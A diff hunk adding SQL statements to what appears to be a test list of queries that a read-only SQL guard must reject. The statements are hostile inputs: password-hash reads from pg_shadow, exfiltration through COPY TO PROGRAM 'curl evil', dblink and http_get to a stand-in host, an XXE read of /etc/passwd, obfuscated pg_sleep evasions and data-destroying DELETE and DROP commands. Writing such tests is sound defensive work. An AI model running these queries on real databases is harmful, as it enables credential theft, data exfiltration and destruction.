@@ -123,3 +123,95 @@ SELECT * FROM orders TABLESAMPLE system(pg_sleep(1)::text::int)
 SELECT DISTINCT ON (pg_sleep(1)) id FROM orders
 SELECT JSON_OBJECT('a': pg_read_file('x'))
 SELECT * FROM orders FETCH FIRST (SELECT pg_sleep(1)::text::int) ROWS ONLY
+# a second hand, written without a look at the lists
+WITH d AS (DELETE FROM orders RETURNING *) SELECT * FROM d
+WITH u AS (UPDATE orders SET total = 0 RETURNING id), x AS (SELECT 1) SELECT count(*) FROM u
+WITH i AS (INSERT INTO orders (id) VALUES (1) RETURNING id) SELECT * FROM i
+WITH m AS (MERGE INTO orders o USING customers c ON o.id = c.id WHEN MATCHED THEN DELETE RETURNING o.id) SELECT * FROM m
+SELECT * INTO TEMP t FROM orders
+SELECT * INTO UNLOGGED newtab FROM orders
+SELECT usename, passwd FROM pg_shadow
+SELECT rolname, rolpassword FROM pg_catalog.pg_authid
+SELECT * FROM information_schema.tables
+SELECT relname FROM pg_class
+SELECT query FROM pg_stat_activity
+SELECT name, setting FROM pg_settings
+SELECT set_config('statement_timeout', '0', false)
+SELECT pg_sleep(100)
+SELECT pg_sleep_until('tomorrow')
+SELECT 1 FROM orders WHERE id = 1 OR pg_sleep(5) IS NULL
+SELECT * FROM pg_ls_waldir()
+SELECT lo_get(16400)
+SELECT lo_from_bytea(0, '\x00')
+SELECT loread(lo_open(1, 262144), 100)
+SELECT pg_terminate_backend(123)
+SELECT pg_cancel_backend(123)
+SELECT pg_notify('ch', 'msg')
+SELECT currval('orders_id_seq'), lastval()
+SELECT dblink('host=evil', 'SELECT 1')
+SELECT * FROM dblink('dbname=x', 'DELETE FROM orders') AS t(a int)
+SELECT dblink_exec('dbname=x', 'DROP TABLE orders')
+SELECT query_to_xml('SELECT * FROM pg_shadow', true, true, '')
+SELECT table_to_xml('orders', true, false, '')
+SELECT xmlparse(document '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>')
+SELECT ts_stat('SELECT vector FROM secrets')
+SELECT * FROM ts_stat('SELECT to_tsvector(passwd) FROM pg_shadow')
+SELECT current_user, session_user
+SELECT inet_server_addr(), inet_client_addr()
+SELECT current_database(), current_schemas(true)
+SELECT has_table_privilege('orders', 'DELETE')
+SELECT pg_get_viewdef('v')
+SELECT pg_get_functiondef(1)
+SELECT obj_description(1)
+SELECT 'orders'::regclass::oid, 'pg_shadow'::regclass
+SELECT pg_relation_size('orders'), pg_database_size('postgres')
+SELECT pg_logical_emit_message(true, 'a', 'b')
+SELECT pg_create_physical_replication_slot('x')
+SELECT * FROM orders FOR UPDATE
+SELECT * FROM (SELECT * FROM orders FOR UPDATE) s
+COPY orders TO '/tmp/x'
+COPY (SELECT * FROM orders) TO PROGRAM 'curl evil'
+COPY orders FROM PROGRAM 'id'
+DO $$ BEGIN DELETE FROM orders; END $$
+CALL proc()
+EXECUTE stmt
+PREPARE s AS DELETE FROM orders
+SET statement_timeout = 0
+SET ROLE postgres
+BEGIN; DELETE FROM orders; COMMIT
+SELECT 1; DROP TABLE orders
+VACUUM orders
+ANALYZE orders
+EXPLAIN ANALYZE DELETE FROM orders
+LOCK TABLE orders
+CREATE TABLE x AS SELECT * FROM orders
+GRANT ALL ON orders TO public
+LOAD 'x.so'
+SELECT pg_catalog.pg_sleep(1)
+SELECT "pg_sleep"(1)
+SELECT U&"pg\005fsleep"(1)
+SELECT PG_SLEEP(1)
+SELECT evil.steal(id) FROM orders
+SELECT * FROM public.secret_table
+SELECT * FROM otherschema.orders
+SELECT ctid, xmin FROM orders
+SELECT tableoid::regclass FROM orders
+SELECT plpy_execute('x')
+SELECT lowrite(0, 'x')
+SELECT pg_file_write('x', 'y', true)
+SELECT adminpack.pg_file_unlink('x')
+SELECT * FROM generate_series(1, 1000000000000)
+SELECT repeat('a', 1000000000)
+SELECT crypt('x', gen_salt('bf', 31))
+SELECT http_get('http://evil')
+SELECT * FROM pg_show_all_settings()
+SELECT row_security_active('orders')
+SELECT system_user
+SELECT pg_my_temp_schema()
+SELECT pg_column_size(o) FROM orders o, pg_locks
+SELECT nextval('s'::regclass) FROM generate_series(1, 10)
+SELECT pg_stat_reset()
+SELECT pg_promote()
+SELECT brin_summarize_new_values('i')
+SELECT gin_clean_pending_list('i')
+SELECT pg_import_system_collations('public')
